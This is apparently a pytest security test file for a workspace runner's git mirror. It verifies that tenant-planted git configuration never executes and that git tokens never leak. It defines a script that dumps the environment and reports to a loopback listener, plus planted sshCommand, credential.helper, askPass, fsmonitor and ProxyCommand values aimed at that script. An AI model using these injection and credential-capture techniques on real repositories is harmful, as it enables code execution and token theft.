"""I3: the tenant's git configuration never meets the network, and git tokens never meet it.

Attacks are written as a tenant would, through the public API with a token scoped to its own
workspace (and, for /git, an orchestrator acting on the tenant's repository): an earlier step
plants programs in the task's global git config, in a repository's .git/config or in
~/.ssh/config; a later git operation must run none of them, and the workspace's git token
must appear nowhere the tenant can look. The rest checks that clone, pull, fetch and push
still work through the daemon's mirror (real git, real bubblewrap, real servers).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import INTERNAL_TOKEN, free_port, git_http_server, git_repo, wait_for
from wsrunner.daemon import Daemon

WS = "ws-git"
MIRRORS = ".wsrunner-git"  #: in the volume (wsrunner.execution.git.remote.MIRRORS_DIR)
SECRET = "ghp_I3SECRET_" + "7" * 24
#: Everything allowed, protect off, and the daemon's git on the host's network: the most a
#: tenant can hope for (what the old default was), so that nothing but the mirror stands
#: between its git configuration and the network.
POLICY = """\
apiVersion: wsrunner/v1
kind: Policy
metadata: {name: git-remote}
spec:
  sandbox: {require: full, network: none, gitNetwork: host, protect: []}
  limits: {memory: 512MiB, pids: 128, timeoutSeconds: 120}
  rules:
    - {id: anything, action: allow, commands: ["*"]}
"""
#: The tenant's program: leaves a marker and its environment in the workspace, tells a
#: listener on the host's loopback, then fails (so that git gives up).
EVIL = """#!/bin/sh
d="$(dirname "$0")/.."
touch "$d/pwned-$1"
env > "$d/env-$1"
python3 -c 'import socket, sys
s = socket.create_connection(("127.0.0.1", {port}), 2)
s.sendall(("pwned-" + sys.argv[1]).encode())' "$1" 2>/dev/null
exit 1
"""
GIT_ENV = dict(
    os.environ,
    GIT_AUTHOR_NAME="t",
    GIT_AUTHOR_EMAIL="t@t",
    GIT_COMMITTER_NAME="t",
    GIT_COMMITTER_EMAIL="t@t",
)


class Listener:
    """A TCP listener on the host's 127.0.0.1 that records what every connection sends."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.sock.close()


@dataclass
class Tenant:
    daemon: Daemon
    token: str  #: public API token scoped to WS
    tmp: Path
    listener: Listener
    tasks: list[dict[str, Any]] = field(default_factory=list)  #: every record seen, as JSON
    events: list[str] = field(default_factory=list)

    @property
    def root(self) -> Path:
        return self.daemon.settings.volume_path / WS

    def public(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            base_url=self.daemon.urls[0],
            timeout=60,
            headers={"Authorization": f"Bearer {self.token}"},
        )

    def internal(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(
            base_url=self.daemon.urls[1], timeout=60, headers={"X-Internal-Token": INTERNAL_TOKEN}
        )

    async def submit(self, *steps: dict[str, Any]) -> list[dict[str, Any]]:
        """Run a task through the public API; the results of its steps."""
        async with self.public() as c:
            r = await c.post("/api/tasks/submit", json={"workspace_id": WS, "steps": list(steps)})
            assert r.status_code == 202, r.text
            tid = r.json()["task_id"]

            async def ended() -> dict[str, Any] | None:
                body: dict[str, Any] = (await c.get(f"/api/tasks/{tid}")).json()
                return body if body["status"] not in ("queued", "running") else None

            record = await wait_for(ended, timeout=120, poll=0.05)
            self.events.append((await c.get(f"/api/tasks/{tid}/events")).text)
        self.tasks.append(record)
        return [s["result"] for s in record["result"]["result"]["steps"]]

    async def git(self, operation: str, cwd: str, args: Any = None) -> dict[str, Any]:
        """The internal API's /git, as an orchestrator calls it on the tenant's workspace."""
        async with self.internal() as c:
            r = await c.post(
                f"/workspaces/{WS}/git", json={"operation": operation, "cwd": cwd, "args": args}
            )
        assert r.status_code == 200, r.text
        body: dict[str, Any] = r.json()
        self.tasks.append(body)
        return body

    async def tool(self, operation: str, cwd: str, args: Any = None) -> dict[str, Any]:
        """The tools API's workspace_git, as an agent holding the scoped token calls it."""
        arguments = {"operation": operation, "cwd": cwd} | ({"args": args} if args else {})
        async with self.public() as c:
            r = await c.post(
                "/api/tools/call",
                json={"workspace_id": WS, "tool": "workspace_git", "arguments": arguments},
            )
        assert r.status_code == 200, r.text
        body: dict[str, Any] = r.json()["result"]
        self.tasks.append(body)
        return body

    def evil(self) -> dict[str, Any]:
        """The write_file step that puts the tenant's program at bin/evil.sh."""
        return {
            "action": "write_file",
            "path": "bin/evil.sh",
            "content": EVIL.replace("{port}", str(self.listener.port)),
        }

    def traces(self) -> list[str]:
        """Every sign that a program of the tenant's ran: markers and environment dumps
        anywhere under the test's directory (the volume and the daemon's mirrors), bytes
        that reached the host's listener."""
        found = [str(p) for p in self.tmp.rglob("pwned-*")]
        found += [str(p) for p in self.tmp.rglob("env-*")]
        found += [f"listener got {data!r}" for data in self.listener.received if b"pwned" in data]
        return found


@pytest.fixture(name="tenant")
async def _tenant(start_daemon: Callable[..., Any], tmp_path: Path) -> AsyncIterator[Tenant]:
    etc = tmp_path / "etc"
    (etc / "policy.d").mkdir(parents=True)
    (etc / "policy.yaml").write_text(POLICY)
    creds = tmp_path / "git-credentials.yaml"
    creds.write_text("{}\n")
    creds.chmod(0o600)
    daemon: Daemon = await start_daemon(
        frontend="frontend",
        public_host="127.0.0.1",
        public_port=0,
        health_port=0,
        internal_token=INTERNAL_TOKEN,
        policy_file=etc / "policy.yaml",
        git_schemes=("https", "http", "ssh", "git", "file"),
        git_credentials_file=creds,
    )
    _, token = await daemon.service.tokens.create("tenant", [WS])
    listener = Listener()
    try:
        yield Tenant(daemon, token, tmp_path, listener)
    finally:
        listener.close()


def origin_repo(tmp: Path, name: str) -> tuple[Path, str]:
    path = tmp / "origins" / name
    path.mkdir(parents=True)
    return path, git_repo(path, {"README": "v1\n"}, "v1")


def advance(origin: Path, text: str) -> None:
    (origin / "README").write_text(text)
    subprocess.run(
        ["git", "-C", str(origin), "commit", "-qam", text.strip()], check=True, env=GIT_ENV
    )


def rev(repo: Path, name: str) -> str:
    done = subprocess.run(
        ["git", "-c", "safe.directory=*", "-C", str(repo), "rev-parse", "--verify", "-q", name],
        capture_output=True,
        text=True,
        check=False,
    )
    return done.stdout.strip()


def sh(command: str) -> dict[str, Any]:
    return {"action": "execute_command", "command": command}


def plant(repo: str, entries: dict[str, str]) -> str:
    """A command that sets `entries` in repos/<repo>/.git/config; values may use $E, the
    tenant's program."""
    return " && ".join(f'git -C repos/{repo} config "{k}" "{v}"' for k, v in entries.items())


def tenant_repo(name: str, url: str) -> str:
    """A command making repos/<name>: one commit on main, tracking origin's main at `url`."""
    return (
        f"git init -q -b main repos/{name} && git -C repos/{name} commit -q --allow-empty "
        f"-m mine && git -C repos/{name} remote add origin {url} && "
        f"git -C repos/{name} config branch.main.remote origin && "
        f"git -C repos/{name} config branch.main.merge refs/heads/main"
    )


NOWHERE = "ssh://git@127.0.0.1:1/x.git"  #: nothing listens: only a tenant's ssh "works"
SETUP = 'chmod +x bin/evil.sh && E="$PWD/bin/evil.sh"'
#: A file:// origin turned into ssh (insteadOf) with the tenant's ssh, and more programs.
INSTEADOF = {
    "url.ssh://git@127.0.0.1:1/.insteadOf": "file://",
    "core.sshCommand": "$E ssh-insteadof",
    "core.fsmonitor": "$E fsmonitor",
    "credential.helper": "!$E credential-helper",
    "core.askPass": "$E askpass",
}


# --- (a) planted configuration, then a git_pull step --------------------------------------------


async def test_planted_git_config_never_runs_for_git_pull(tenant: Tenant) -> None:
    origin, url = origin_repo(tenant.tmp, "proj")
    assert (
        "error"
        not in (await tenant.submit({"action": "git_clone", "repo": url, "shallow": False}))[0]
    )
    advance(origin, "v2\n")
    # One task: the global config only lives as long as the task.
    results = await tenant.submit(
        tenant.evil(),
        sh(
            f'{SETUP} && git config --global core.sshCommand "$E ssh-global" && '
            f"{tenant_repo('y1', NOWHERE)} && {tenant_repo('y2', NOWHERE)} && "
            + plant("y2", {"core.sshCommand": "$E ssh-repo"})
            + " && "
            + plant("proj", INSTEADOF)
        ),
        {"action": "git_pull", "repo_name": "y1"},
        {"action": "git_pull", "repo_name": "y2"},
        {"action": "git_pull", "repo_name": "proj"},
    )
    assert "error" not in results[1], results[1]
    assert not tenant.traces(), (tenant.traces(), results)
    # The pull through the mirror still works, with all of that in the repository's config.
    assert "error" not in results[4], results[4]
    assert (tenant.root / "repos" / "proj" / "README").read_text() == "v2\n"
    # ~/.ssh/config (ProxyCommand) of another task, then a pull of an ssh origin.
    results = await tenant.submit(
        tenant.evil(),
        sh(
            f"{SETUP} && mkdir -p ~/.ssh && printf 'Host *\\n  ProxyCommand %s proxy\\n' "
            '"$E" > ~/.ssh/config'
        ),
        {"action": "git_pull", "repo_name": "y1"},
    )
    assert "error" not in results[1], results[1]
    assert not tenant.traces(), (tenant.traces(), results)
    # The daemon's git did go to the network for these: its own ssh, refused at port 1.
    assert "127.0.0.1" in results[2]["stderr"] and "refused" in results[2]["stderr"], results[2]


# --- (b) the workspace's git token, and configuration that tries to print it ---------------------


@pytest.fixture(name="git_http")
def _git_http(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A dumb-HTTP git server for one repository that demands SECRET as the password; its
    host:port and the work tree that feeds it (`publish` after each commit)."""
    bare = tmp_path / "srv" / "proj.git"
    work = tmp_path / "work"
    work.mkdir()
    git_repo(work, {"README": "v1\n"}, "v1")
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)
    with git_http_server(tmp_path / "srv", SECRET) as address:
        yield address, work


def publish(work: Path, text: str) -> None:
    """A new commit in `work`, pushed to the HTTP server's repository."""
    advance(work, text)
    bare = work.parent / "srv" / "proj.git"
    subprocess.run(["git", "-C", str(work), "push", "-q", str(bare), "main"], check=True)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True)


def files_holding(root: Path, secret: str) -> list[str]:
    return [
        str(p)
        for p in root.rglob("*")
        if p.is_file() and not p.is_symlink() and secret.encode() in p.read_bytes()
    ]


def leaks(tenant: Tenant) -> list[str]:
    """Where SECRET shows: a task's record or events, a result of /git or of a tool, a file
    anywhere in the volume (the workspace and the daemon's mirrors), the host's listener."""
    found = [f"record {i}" for i, t in enumerate(tenant.tasks) if SECRET in json.dumps(t)]
    found += [f"events {i}" for i, e in enumerate(tenant.events) if SECRET in e]
    found += files_holding(tenant.daemon.settings.volume_path, SECRET)
    found += ["the host's listener" for data in tenant.listener.received if SECRET.encode() in data]
    return found


async def test_the_git_token_never_reaches_the_tenant(
    tenant: Tenant, git_http: tuple[str, Path]
) -> None:
    host, work = git_http
    creds = tenant.tmp / "git-credentials.yaml"
    creds.write_text(f"workspaces:\n  {WS}:\n    '{host}': {SECRET}\n")
    url = f"http://{host}/proj.git"
    clone = await tenant.submit({"action": "git_clone", "repo": url, "shallow": False})
    assert "error" not in clone[0], clone[0]  # the token reached the server
    publish(work, "v2\n")
    helpers = {
        "credential.helper": "!$E credential-repo",
        "core.askPass": "$E askpass-repo",
        f"credential.http://{host}.helper": "!$E credential-url",
    }
    results = await tenant.submit(
        tenant.evil(),
        sh(
            f'{SETUP} && git config --global credential.helper "!$E credential-global" && '
            f'git config --global core.askPass "$E askpass-global" && ' + plant("proj", helpers)
        ),
        {"action": "git_pull", "repo_name": "proj"},
        sh("cat env-* 2>/dev/null; env; cat tasks/*/askpass 2>/dev/null; true"),
    )
    assert not leaks(tenant), leaks(tenant)
    assert not tenant.traces(), tenant.traces()
    assert "error" not in results[2], results[2]
    assert (tenant.root / "repos" / "proj" / "README").read_text() == "v2\n"
    # The same through /git, the tools API, and a clone of the same URL (the cached path).
    publish(work, "v3\n")
    done = [
        await tenant.git("fetch", "repos/proj"),
        await tenant.git("pull", "repos/proj", ["--no-rebase"]),
    ]
    publish(work, "v4\n")
    done += [await tenant.tool("pull", "repos/proj"), await tenant.git("clone", ".", [url])]
    done.append((await tenant.submit(sh("cat env-* 2>/dev/null; true")))[0])
    assert not leaks(tenant), leaks(tenant)
    assert not tenant.traces(), tenant.traces()
    assert not [d for d in done if "error" in d], done
    assert (tenant.root / "repos" / "proj" / "README").read_text() == "v4\n"


# --- (c) the same through /git and the tools API ----------------------------------------------------


async def test_planted_git_config_never_runs_for_git_operations(tenant: Tenant) -> None:
    origin, url = origin_repo(tenant.tmp, "proj")
    results = await tenant.submit(
        {"action": "git_clone", "repo": url, "shallow": False},
        tenant.evil(),
        sh(
            f"{SETUP} && {tenant_repo('y', NOWHERE)} && "
            + plant("y", {"core.sshCommand": "$E ssh-repo", "credential.helper": "!$E helper"})
            + " && "
            + plant("proj", INSTEADOF)
        ),
    )
    assert all("error" not in r for r in results), results
    advance(origin, "v2\n")
    fetched = await tenant.git("fetch", "repos/proj")
    pulled = await tenant.git("pull", "repos/proj")
    # A push goes to the network from the mirror only; to a file:// origin it cannot write.
    await tenant.git("push", "repos/proj", ["origin", "main"])
    for operation in ("fetch", "pull", "push"):
        await tenant.git(operation, "repos/y")
        await tenant.tool(operation, "repos/y")
        await tenant.tool(operation, "repos/proj")
    assert not tenant.traces(), tenant.traces()
    # The fetch and the pull through the mirror work, whatever the repository's config says.
    assert "error" not in fetched and "error" not in pulled, (fetched, pulled)
    assert rev(tenant.root / "repos" / "proj", "refs/remotes/origin/main") == rev(origin, "HEAD")
    assert (tenant.root / "repos" / "proj" / "README").read_text() == "v2\n"


# --- the operations still work through the mirror ----------------------------------------------------


@pytest.fixture(name="git_daemon")
def _git_daemon(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """`git daemon` on the host's 127.0.0.1 serving srv/proj.git, pushes allowed; its git://
    URL and the bare repository."""
    srv = tmp_path / "gitd"
    work = tmp_path / "gitd-work"
    work.mkdir(parents=True)
    git_repo(work, {"README": "v1\n"}, "v1")
    bare = srv / "proj.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True)
    port = free_port()
    proc = subprocess.Popen(
        [
            "git",
            "daemon",
            "--reuseaddr",
            "--export-all",
            "--enable=receive-pack",
            f"--base-path={srv}",
            "--listen=127.0.0.1",
            f"--port={port}",
            str(srv),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(200):
            try:
                socket.create_connection(("127.0.0.1", port), 0.1).close()
                break
            except OSError:
                time.sleep(0.05)
        yield f"git://127.0.0.1:{port}/proj.git", bare
    finally:
        proc.terminate()
        proc.wait(5)


def someone_pushes(bare: Path, work: Path) -> None:
    subprocess.run(["git", "clone", "-q", str(bare), str(work)], check=True)
    advance(work, "theirs\n")
    subprocess.run(["git", "-C", str(work), "push", "-q", "origin", "main"], check=True)


async def test_push_goes_through_the_mirror(tenant: Tenant, git_daemon: tuple[str, Path]) -> None:
    url, bare = git_daemon
    clone = await tenant.submit({"action": "git_clone", "repo": url, "shallow": False})
    assert "error" not in clone[0], clone[0]
    repo = tenant.root / "repos" / "proj"
    async with tenant.internal() as c:
        r = await c.post(
            f"/workspaces/{WS}/files/write", json={"path": "repos/proj/README", "content": "v2\n"}
        )
        assert r.status_code == 200, r.text
    for op, args in (("add", ["README"]), ("commit", ["-m", "v2"])):
        assert "error" not in (done := await tenant.git(op, "repos/proj", args)), done
    pushed = await tenant.git("push", "repos/proj", ["origin", "main"])
    assert "error" not in pushed, pushed
    assert (
        rev(bare, "refs/heads/main") == rev(repo, "HEAD") == rev(repo, "refs/remotes/origin/main")
    )
    # -u: a new branch on the remote, followed from here; then deleted there and here.
    pushed = await tenant.git("push", "repos/proj", ["-u", "origin", "main:feature"])
    assert "error" not in pushed, pushed
    assert rev(bare, "refs/heads/feature") == rev(repo, "HEAD")
    assert rev(repo, "refs/remotes/origin/feature") == rev(repo, "HEAD")
    assert rev(repo, "main@{upstream}") == rev(repo, "refs/remotes/origin/feature")
    assert "error" not in await tenant.git("push", "repos/proj", ["-u", "origin", "main"])
    assert rev(repo, "main@{upstream}") == rev(repo, "refs/remotes/origin/main")
    deleted = await tenant.git("push", "repos/proj", ["--delete", "origin", "feature"])
    assert "error" not in deleted, deleted
    assert rev(bare, "refs/heads/feature") == "" == rev(repo, "refs/remotes/origin/feature")
    # Someone else pushed: a plain push is refused, a pull then a push goes through.
    someone_pushes(bare, tenant.tmp / "other")
    (repo / "NEW").write_text("mine\n")
    for op, args in (("add", ["NEW"]), ("commit", ["-m", "mine"])):
        assert "error" not in (done := await tenant.git(op, "repos/proj", args)), done
    refused = await tenant.git("push", "repos/proj")
    assert "error" in refused and "rejected" in refused["stderr"], refused
    pulled = await tenant.git("pull", "repos/proj", ["--no-rebase"])
    assert "error" not in pulled, json.dumps(pulled, indent=1)
    assert "error" not in (pushed := await tenant.git("push", "repos/proj")), pushed
    assert rev(bare, "refs/heads/main") == rev(repo, "HEAD")
    # Tags: all of them with --tags, the annotated one as the tag object it is.
    tagged = await tenant.submit(
        sh("git -C repos/proj tag -a v1 -m one && git -C repos/proj tag v2")
    )
    assert "error" not in tagged[0], tagged
    assert "error" not in (pushed := await tenant.git("push", "repos/proj", ["--tags"])), pushed
    assert rev(bare, "refs/tags/v1") == rev(repo, "refs/tags/v1") != rev(repo, "HEAD")
    assert rev(bare, "refs/tags/v2") == rev(repo, "HEAD")
    # What the mirror's push does not offer is refused, naming the argument.
    async with tenant.internal() as c:
        r = await c.post(
            f"/workspaces/{WS}/git",
            json={"operation": "push", "cwd": "repos/proj", "args": ["--mirror", "origin"]},
        )
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "args[0]", r.text


async def test_the_mirror_is_the_daemons(tenant: Tenant) -> None:
    """Where the mirror lives, whose it is, and what is left after an operation."""
    origin, url = origin_repo(tenant.tmp, "proj")
    results = await tenant.submit(
        {"action": "git_clone", "repo": url, "shallow": True},
        sh("git -C repos/proj remote get-url origin"),
        sh("git -C repos/proj rev-parse --is-shallow-repository"),
    )
    assert "error" not in results[0], results[0]
    assert results[1]["stdout"] == f"{url}\n" and results[2]["stdout"] == "true\n"
    uid = (tenant.root).stat().st_uid
    base = tenant.daemon.settings.volume_path / MIRRORS
    mine = base / WS
    assert base.stat().st_uid == mine.stat().st_uid == 0
    assert stat.S_IMODE(base.stat().st_mode) == stat.S_IMODE(mine.stat().st_mode) == 0o711
    assert sorted(p.name for p in mine.iterdir()) == ["data"]  # the operation's files are gone
    (mirror,) = (mine / "data").glob("*.git")
    assert (mine / "data").stat().st_uid == mirror.stat().st_uid == uid
    assert (mirror / "config").stat().st_uid == 0 and "[remote" not in (
        mirror / "config"
    ).read_text()
    assert rev(mirror, "refs/heads/main") == rev(origin, "HEAD")
    # A full clone later deepens the mirror; a new commit comes in with a pull.
    advance(origin, "v2\n")
    results = await tenant.submit(
        sh("rm -rf repos/proj"),
        {"action": "git_clone", "repo": url, "shallow": False},
        sh("git -C repos/proj rev-list --count HEAD"),
    )
    assert all("error" not in r for r in results), results
    assert results[2]["stdout"] == "2\n"


def test_a_mirror_is_repaired_without_following_a_symlink(tmp_path: Path) -> None:
    """What a process of the workspace's uid could have left in a mirror (below full
    isolation) is removed or replaced by the daemon, which follows none of its symlinks."""
    # Imported here: the attack tests above also run against code without this module.
    from wsrunner.execution.git.mirror import make_operation, open_mirror, remove_operation

    root = tmp_path / "volume" / "ws"
    root.mkdir(parents=True)
    os.chown(root, 200123, 200123)
    base = str(tmp_path / "volume" / MIRRORS)
    mirror = open_mirror(base, "ws", "https://example.org/x.git", str(root))
    assert mirror.fresh and not mirror.shallow
    path = Path(mirror.path)
    assert path.stat().st_uid == 200123 and (path / "config").stat().st_uid == 0
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep").write_text("keep\n")
    shutil.rmtree(path / "refs")
    (path / "refs").symlink_to(outside)
    (path / "hooks").mkdir()
    (path / "hooks" / "pre-push").write_text("#!/bin/sh\n")
    (path / "commondir").write_text(str(outside) + "\n")
    (path / "config").unlink()
    (path / "config").symlink_to(outside / "keep")
    again = open_mirror(base, "ws", "https://example.org/x.git", str(root))
    assert again.path == mirror.path and again.fresh
    assert sorted(p.name for p in outside.iterdir()) == ["keep"]
    assert (outside / "keep").read_text() == "keep\n"
    assert (path / "refs").is_dir() and not (path / "refs").is_symlink()
    assert not (path / "hooks").exists() and not (path / "commondir").exists()
    assert not (path / "config").is_symlink() and "bare = true" in (path / "config").read_text()
    # One operation's files: the key is the workspace uid's and private; all gone after.
    op = Path(make_operation(base, "ws", str(root), config="[core]\n", ssh_key="KEY"))
    assert (op / "ssh_key").stat().st_uid == 200123
    assert stat.S_IMODE((op / "ssh_key").stat().st_mode) == 0o400
    assert (op / "gitconfig").stat().st_uid == 0 and stat.S_IMODE(op.stat().st_mode) == 0o711
    remove_operation(str(op))
    assert not op.exists()
